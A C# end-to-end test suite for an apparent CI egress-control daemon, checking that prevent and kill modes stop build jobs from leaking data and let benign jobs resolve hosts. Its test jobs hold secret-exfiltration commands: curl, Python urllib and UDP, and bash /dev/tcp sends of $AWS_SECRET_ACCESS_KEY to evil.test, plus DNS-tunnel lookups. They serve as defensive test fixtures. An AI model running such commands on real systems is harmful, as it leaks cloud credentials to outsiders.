using System.Text.Json;
using BuildSentry.Testing.Lab;
using static BuildSentry.EndToEnd.ScenarioTests;

namespace BuildSentry.EndToEnd;

/// <summary>
/// Prevent mode in the lab: a job's connects, sends and DNS queries off its profile are refused before anything leaves
/// the host (tcpdump on the uplink, the lab's servers and its resolver all see nothing), the job goes on and sees the
/// errors, and each refusal is alerted with action prevented; a benign job resolves and reaches its hosts as usual.
/// </summary>
[Collection(LabCollection.Name)]
public sealed class PreventModeTests(NetworkLabFixture fixture)
{
    // Everything a packet of the attempts below would match on the uplink: evil.test's addresses and any DNS.
    private const string LeakFilter = "host 198.18.0.66 or host fd00:b5e:1ab::66 or port 53";

    private NetworkLab Lab => fixture.Lab;

    // DaemonProcess points the forwarder at the lab's resolver; by default it would ask the host's, outside the lab.
    private static DaemonSetup Prevent => new("prevent");

    [Theory]
    [InlineData(0)]
    [InlineData(1)]
    [InlineData(5)]
    [InlineData(20)]
    public async Task Every_way_out_of_the_seed_payload_is_refused_with_nothing_leaving_the_host(int delayMs)
    {
        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(delayMs));
        var label = $"{BuildJob.Secret.ToLowerInvariant()}{Random.Shared.Next(1000, 9999)}";
        await using var daemon = await DaemonProcess.StartAsync(Prevent);
        await ProveTheCaptureSeesDnsAsync();
        var bytesBefore = Lab.BytesReceivedBy("evil.test");
        await using var packets = await PacketCount.StartAsync(LeakFilter);

        using var job = BuildJob.Start(Lab, $$"""
            echo "curl: $(curl -s -o /dev/null -w '%{http_code}' -X POST --data "$AWS_SECRET_ACCESS_KEY" http://evil.test/collect; echo " exit $?")"
            echo "urllib: $(python3 -c "import os, urllib.request; urllib.request.urlopen('http://evil.test/collect', data=os.environ['AWS_SECRET_ACCESS_KEY'].encode(), timeout=5)" 2>&1 | tail -1)"
            echo "devtcp: $( (exec 3<>/dev/tcp/198.18.0.66/80 && printf 'POST /collect HTTP/1.0\r\n\r\n%s' "$AWS_SECRET_ACCESS_KEY" >&3) 2>&1)"
            echo "udp: $(python3 -c "import os, socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(os.environ['AWS_SECRET_ACCESS_KEY'].encode(), ('198.18.0.66', 5353))" 2>&1 | tail -1)"
            echo "dns: $(dig +short +tries=1 +time=2 {{label}}.exfil.test; echo "exit $?")"
            echo "tcpdns: $(dig +short +tcp +tries=1 +time=2 {{label}}tcp.exfil.test; echo "exit $?")"
            echo build finished
            """);
        var result = await job.WaitAsync();
        var leaked = await packets.StopAsync();

        Assert.Contains("build finished", result.StandardOutput);
        Assert.Contains("curl: 000 exit 6", result.StandardOutput); // could not resolve host
        Assert.Matches("urllib: .*(Name or service not known|not known)", result.StandardOutput);
        Assert.Contains("devtcp: ", result.StandardOutput);
        Assert.Contains("Operation not permitted", result.StandardOutput.Split('\n').Single(l => l.StartsWith("devtcp:", StringComparison.Ordinal)));
        Assert.Contains("PermissionError", result.StandardOutput.Split('\n').Single(l => l.StartsWith("udp:", StringComparison.Ordinal)));
        Assert.Empty(leaked);
        Assert.Equal(bytesBefore, Lab.BytesReceivedBy("evil.test"));
        Assert.DoesNotContain(Lab.DnsQueriesLogged(), q => q.Name.Contains(label, StringComparison.OrdinalIgnoreCase));

        // Each attempt was alerted as prevented; the job was never killed.
        var alerts = daemon.AlertRecords().Where(a => Str(a, "job") == job.JobId).ToList();
        Assert.All(alerts, a => Assert.Equal("prevented", Str(a, "action")));
        Assert.Contains(alerts, a => Kind(a) == "egress.dns" && Names(a).Contains("evil.test") && Str(a, "exe").EndsWith("/curl", StringComparison.Ordinal));
        Assert.Contains(alerts, a => Kind(a) == "egress.dns" && Names(a).Contains("evil.test") && Str(a, "exe").Contains("python", StringComparison.Ordinal));
        Assert.Contains(alerts, a => Kind(a) == "egress.connection" && Str(a, "dst") == "198.18.0.66" && Str(a, "proto") == "tcp");
        Assert.Contains(alerts, a => Kind(a) == "egress.connection" && Str(a, "dst") == "198.18.0.66" && Str(a, "proto") == "udp");
        Assert.Contains(alerts, a => Kind(a) == "egress.dns" && Names(a).Contains($"{label}.exfil.test") && Str(a, "proto") == "udp");
        Assert.Contains(alerts, a => Kind(a) == "egress.dns" && Names(a).Contains($"{label}tcp.exfil.test") && Str(a, "proto") == "tcp");
        var report = await ReportAsync(daemon, job);
        Assert.Equal(JsonValueKind.Null, report.TryGetProperty("kill", out var kill) ? kill.ValueKind : JsonValueKind.Null);
    }

    [Fact]
    public async Task A_benign_job_resolves_and_reaches_its_hosts_over_udp_and_tcp_dns_ipv4_and_ipv6_with_no_alert()
    {
        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(1));
        await using var daemon = await DaemonProcess.StartAsync(Prevent);
        // The first step at once: a name resolved before the job is held (a few ms after its start) is allowed too.
        using var job = BuildJob.Start(Lab, $$"""
            set -e
            curl -sf http://registry.test/ok > /dev/null
            curl -4 -sf http://registry.test/ok > /dev/null
            curl -6 -sf http://registry.test/ok > /dev/null
            curl -sf --cacert {{Lab.CertificatePath}} https://cdn.test/ok > /dev/null
            getent ahosts cdn.test > /dev/null
            test -n "$(dig +short registry.test A)"
            test -n "$(dig +short +tcp registry.test AAAA)"
            # Raw resolvers: one on a connected UDP socket, one with sendto; each then fetches from the address it got.
            python3 - <<'PY'
            import socket, struct
            server = next(l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver"))
            def query(name):
                return b"\x42\x42\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00\x00\x01\x00\x01"
            def first_a(answer):
                return socket.inet_ntoa(answer[-4:])
            c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); c.settimeout(5)
            c.connect((server, 53)); c.send(query("registry.test"))
            assert c.getpeername() == (server, 53)
            connected = first_a(c.recv(512))
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)
            u.sendto(query("registry.test"), (server, 53))
            data, source = u.recvfrom(512)
            assert source == (server, 53), source
            for address in (connected, first_a(data)):
                s = socket.create_connection((address, 80), timeout=5)
                s.sendall(b"GET /ok HTTP/1.0\r\nHost: registry.test\r\n\r\n")
                status = s.recv(64)
                assert b" 200 " in status, (address, status)
            print("raw resolvers ok")
            PY
            echo build finished
            """);
        var result = await job.WaitAsync();

        Assert.True(result.ExitCode == 0, $"exit {result.ExitCode}\n{result.StandardOutput}\n{result.StandardError}\n{daemon.Output}");
        Assert.Contains("raw resolvers ok", result.StandardOutput);
        Assert.Contains("build finished", result.StandardOutput);
        var alerts = daemon.AlertRecords().Where(a => Str(a, "job") == job.JobId).ToList();
        Assert.True(alerts.Count == 0, string.Join("\n", alerts));
        var report = await ReportAsync(daemon, job);
        Assert.Equal(0, report.GetProperty("violationCount").GetInt32());
        var status = await daemon.CliAsync("status", "--json");
        var sensors = JsonDocument.Parse(status.StandardOutput).RootElement.GetProperty("sensors");
        Assert.Equal("kernel", sensors.GetProperty("preventMode").GetString());
        Assert.True(sensors.GetProperty("jobsPrevented").GetInt64() >= 1, sensors.ToString());
        Assert.True(sensors.GetProperty("dnsForwarderQueries").GetInt64() >= 6, sensors.ToString());
    }

    [Fact]
    public async Task A_job_in_its_own_network_namespace_resolves_through_a_forwarder_opened_there_and_its_denied_names_leave_nothing()
    {
        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(1));
        await using var daemon = await DaemonProcess.StartAsync(Prevent);
        await using var packets = await PacketCount.StartAsync(LeakFilter);
        // The namespace has nothing but its loopback: an answer can only come from a forwarder listening inside it.
        using var job = BuildJob.Start(Lab, """
            sleep 0.2
            unshare --net sh -c '
              ip link set lo up
              echo "udp: $(dig +short +tries=1 +time=2 @198.18.0.2 registry.test A)"
              echo "tcp: $(dig +short +tcp +tries=1 +time=2 @198.18.0.2 registry.test A)"
              echo "denied: $(dig +tries=1 +time=2 @198.18.0.2 evil.test A | grep -o "status: [A-Z]*")"
              sleep 0.5'
            """);
        var result = await job.WaitAsync();
        var leaked = await packets.StopAsync();

        Assert.True(result.StandardOutput.Contains("udp: 198.18.0.10") && result.StandardOutput.Contains("tcp: 198.18.0.10"),
            $"{result.StandardOutput}\n{result.StandardError}\n{daemon.Output}");
        Assert.Contains("denied: status: NXDOMAIN", result.StandardOutput);
        Assert.DoesNotContain(leaked, p => p.Contains("evil.test", StringComparison.Ordinal));
        var alert = Assert.Single(daemon.AlertRecords(), a => Str(a, "job") == job.JobId && Str(a, "action") == "prevented");
        Assert.Contains("evil.test", alert.ToString());
        // The job has ended: the namespace's forwarder closes with it.
        JsonElement sensors = default;
        for (var attempt = 0; attempt < 50; attempt++)
        {
            var status = await daemon.CliAsync("status", "--json");
            sensors = JsonDocument.Parse(status.StandardOutput).RootElement.GetProperty("sensors");
            if (sensors.GetProperty("dnsForwarderNamespaces").GetInt32() == 0)
            {
                break;
            }

            await Task.Delay(100);
        }

        Assert.Equal(0, sensors.GetProperty("dnsForwarderNamespaces").GetInt32());
        Assert.Equal(0, sensors.GetProperty("dnsForwarderNamespaceFailures").GetInt64());
        Assert.Contains("listens in network namespace", daemon.Output);
    }

    [Fact]
    public async Task A_job_that_names_its_own_dns_server_gets_the_hosts_resolver_and_its_server_hears_nothing()
    {
        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(1));
        await using var daemon = await DaemonProcess.StartAsync(Prevent);
        await using var packets = await PacketCount.StartAsync("host 198.18.0.66 or host fd00:b5e:1ab::66");
        // evil.test's address as the DNS server: its own server would learn the query and could answer an allowed
        // name with an address of its choosing, which would then be allowed.
        using var job = BuildJob.Start(Lab, """
            echo "answer: $(dig +short +tries=1 +time=2 @198.18.0.66 registry.test A)"
            echo "tcp answer: $(dig +short +tcp +tries=1 +time=2 @198.18.0.66 registry.test A)"
            """);
        var result = await job.WaitAsync();
        var leaked = await packets.StopAsync();

        Assert.Contains("answer: 198.18.0.10", result.StandardOutput);
        Assert.Contains("tcp answer: 198.18.0.10", result.StandardOutput);
        Assert.Empty(leaked);
    }

    [Fact]
    public async Task In_kill_mode_a_write_straight_after_a_connect_to_an_ip_literal_leaks_in_none_of_200_trials()
    {
        // The case a user-space kill loses at 0 ms: bash connects to an IP and writes the secret at once. The kernel
        // refuses the connect and kills the caller in the same instant; the daemon then kills the job.
        const int Trials = 200;
        await Lab.SetDelayAsync(TimeSpan.Zero);
        await using var daemon = await DaemonProcess.StartAsync(new DaemonSetup("kill"));
        var bytesBefore = Lab.BytesReceivedBy("evil.test");
        await using var packets = await PacketCount.StartAsync("host 198.18.0.66 or host fd00:b5e:1ab::66");
        var latencies = new List<double>();
        for (var trial = 0; trial < Trials; trial++)
        {
            // A build step, then the attack (the kernel holds a job from its placement, a few ms after its start).
            using var job = BuildJob.Start(Lab, """
                sleep 0.1
                exec 3<>/dev/tcp/198.18.0.66/80 && printf 'POST /collect HTTP/1.0\r\n\r\n%s' "$AWS_SECRET_ACCESS_KEY" >&3
                echo survived
                """);
            var result = await job.WaitAsync();
            Assert.DoesNotContain("survived", result.StandardOutput);
            var report = await ReportAsync(daemon, job);
            var violation = report.GetProperty("violations")[0];
            Assert.Equal("killed", violation.GetProperty("action").GetString());
            latencies.Add((report.GetProperty("kill").GetProperty("at").GetDateTimeOffset()
                           - violation.GetProperty("time").GetDateTimeOffset()).TotalMilliseconds);
        }

        Assert.Empty(await packets.StopAsync());
        Assert.Equal(bytesBefore, Lab.BytesReceivedBy("evil.test"));
        latencies.Sort();
        var p99 = latencies[(int)Math.Ceiling(0.99 * latencies.Count) - 1];
        Assert.True(p99 <= 1.0, $"kill p99 {p99:F2} ms from the refused syscall (p50 {latencies[latencies.Count / 2]:F2} ms)");
    }

    /// <summary>The capture this test counts on sees what leaves: a query the test itself sends to the lab resolver.</summary>
    private async Task ProveTheCaptureSeesDnsAsync()
    {
        await using var control = await PacketCount.StartAsync(LeakFilter);
        await Testing.Command.RunAsync("dig", ["@" + NetworkLab.ResolverAddress, "+short", "+tries=1", "registry.test"]);
        Assert.NotEmpty(await control.StopAsync());
    }
}
